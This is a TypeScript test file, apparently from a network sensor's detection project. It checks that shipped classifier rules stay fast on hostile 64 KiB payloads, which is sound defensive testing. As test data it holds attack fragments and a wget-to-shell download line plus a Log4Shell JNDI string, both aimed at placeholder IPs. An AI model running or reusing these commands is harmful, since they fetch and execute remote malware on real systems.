// The shipped rule set against hostile 64 KiB payloads: one letter repeated, random bytes,
// fragments rules look for repeated thousands of times, deeply nested encodings. No rule may
// take more than a few milliseconds on any of them, and the whole set stays well under 100 ms.

import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { ViewedEvent } from './rules/view.js';
import { dissect } from '../protocols/dissect.js';
import { BUILTIN_RULES_DIR, Classifier } from './classifier.js';

const PAYLOAD_BYTES = 64 * 1024;
/** Per rule, best of 3 runs (the machine is shared; the best run shows the rule's own cost). */
const MAX_RULE_MS = 5;
const RULE_RUNS = 3;
/** The whole set on one payload, decoding the payload's layers included; best of 5 runs. */
const MAX_SET_MS = 100;
const SET_RUNS = 5;

/** Fragments the rules look for; repeating them makes every prefix test and regex work. */
const FRAGMENTS = [
  'wget http://', '${jndi:', '/bin/busybox', '<?xml', '%{', '*3\r\n$3\r\nSET\r\n',
  'GET / HTTP/1.1\r\n', '() { :; }; ', 'cd /tmp; ', '$(', '\xffSMB', 'eth_', 'SSH-2.0-',
  'User-Agent: ', '%24%7Bjndi%3A', 'echo ', 'base64 -d', '\\x41', 'chmod 777 ', '/bin/sh -c ',
  'curl -o ', 'tftp -g ', 'http://', '#{', '${lower:', '/containers/', '<Uuid>',
];

/** Same bytes every run: a small linear congruential generator, seeded. */
function randomBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    out[i] = state >>> 24;
  }
  return out;
}

function fill(unit: string): Buffer {
  return Buffer.from(unit.repeat(Math.ceil(PAYLOAD_BYTES / unit.length)), 'latin1')
    .subarray(0, PAYLOAD_BYTES);
}

/** A download command wrapped in base64 and URL-encoding, layer on layer, until 64 KiB. */
function nestedEncoding(): Buffer {
  let text = 'cd /tmp; wget http://198.51.100.7/bins/x86 -O- | sh; ${jndi:ldap://192.0.2.1/a}';
  for (let layer = 0; text.length < PAYLOAD_BYTES; layer++) {
    text = layer % 2 === 0 ? Buffer.from(text).toString('base64') : encodeURIComponent(text);
  }
  return Buffer.from(text.slice(0, PAYLOAD_BYTES), 'latin1');
}

/**
 * Fragments in a random order with short random gaps and no line break: every bounded
 * repeat after a fragment (`wget[^\n]{0,300}http`) keeps many counters alive at once, the
 * input that makes RE2's automaton outgrow its cache and fall back to its slower engine.
 */
function shuffledFragments(seed: number): Buffer {
  const noise = randomBytes(PAYLOAD_BYTES, seed);
  let text = '';
  for (let i = 0; text.length < PAYLOAD_BYTES; i += 2) {
    const fragment = FRAGMENTS[noise[i]! % FRAGMENTS.length]!.replace(/[\r\n]/g, ' ');
    text += fragment + ' x/'.slice(0, noise[i + 1]! % 4);
  }
  return Buffer.from(text.slice(0, PAYLOAD_BYTES), 'latin1');
}

const PAYLOADS: Record<string, Buffer> = {
  'one letter': Buffer.alloc(PAYLOAD_BYTES, 'a'),
  'random bytes': randomBytes(PAYLOAD_BYTES, 7),
  'repeated fragments': fill(FRAGMENTS.join('')),
  'each fragment alone': fill(FRAGMENTS.join(' x ')),
  'shuffled fragments without line breaks': shuffledFragments(11),
  'nested base64 and URL-encoding': nestedEncoding(),
  'percent-encoded percent signs': fill('%25'),
  'hex escapes': fill('\\x77\\x67\\x65\\x74\\x20'),
  'an HTTP request with a hostile body': Buffer.concat([
    Buffer.from(`POST /cgi-bin/${'a'.repeat(2000)} HTTP/1.1\r\nHost: 203.0.113.10\r\n` +
      `User-Agent: ${'${jndi:'.repeat(250)}\r\nContent-Length: 60000\r\n\r\n`),
    fill('wget http://192.0.2.1/x;').subarray(0, 60_000)]),
};

/** The payload as the sensor would record it, with every rule's targets filled where it can. */
async function hostileEvent(payload: Buffer): Promise<ViewedEvent & { payload_len: number }> {
  const parsed = await dissect(payload, { transport: 'tcp', dstPort: 80 });
  const text = payload.toString('latin1');
  return {
    payload_b64: payload.toString('base64'), payload_len: payload.length,
    protocol: parsed.protocol, transport: 'tcp', dst_port: 80,
    // Commands and credentials as an SSH or Telnet session would carry them.
    commands: [...parsed.commands, ...Array.from({ length: 64 }, (_, i) =>
      text.slice(i * 1024, (i + 1) * 1024))],
    credentials: [{ username: text.slice(0, 256), password: text.slice(256, 512) }],
    fields: { ...parsed.fields, path: text.slice(0, 2048), user_agent: text.slice(0, 2048),
      client_version: text.slice(0, 255), headers: [['user-agent', text.slice(0, 2048)]] },
  };
}

function bestMs(runs: number, run: () => void): number {
  let best = Infinity;
  for (let i = 0; i < runs; i++) {
    const started = performance.now();
    run();
    best = Math.min(best, performance.now() - started);
  }
  return best;
}

const shipped = readdirSync(BUILTIN_RULES_DIR).filter((f) => /\.ya?ml$/.test(f));

describe.skipIf(shipped.length === 0)('the shipped rules on hostile 64 KiB payloads ' +
  '(skipped while rules/ holds no rule file)', () => {
  const classifier = shipped.length === 0 ? null : Classifier.load([BUILTIN_RULES_DIR]);

  it.each(Object.keys(PAYLOADS))('%s: no rule takes more than 5 ms', async (name) => {
    const event = await hostileEvent(PAYLOADS[name]!);
    const view = classifier!.view(event);
    // Build the view's shared values first: they are paid once per event, not per rule.
    for (const target of ['payload', 'text', 'commands']) view.regexInputs(target);
    const slow = classifier!.rules
      .map(({ id }) => ({ id, ms: bestMs(RULE_RUNS, () => classifier!.matchRule(id, view)) }))
      .filter(({ ms }) => ms > MAX_RULE_MS);
    expect(slow).toStrictEqual([]);
  });

  it.each(Object.keys(PAYLOADS))('%s: the whole set takes under 100 ms', async (name) => {
    const event = await hostileEvent(PAYLOADS[name]!);
    const ids = classifier!.rules.map((r) => r.id);
    // Every rule, whatever its protocol, on a fresh view: the worst an event can cost.
    const ms = bestMs(SET_RUNS, () => {
      const view = classifier!.view(event);
      for (const id of ids) classifier!.matchRule(id, view);
    });
    expect(ms).toBeLessThan(MAX_SET_MS);
    expect(bestMs(SET_RUNS, () => classifier!.classify(event))).toBeLessThan(MAX_SET_MS);
  });
});
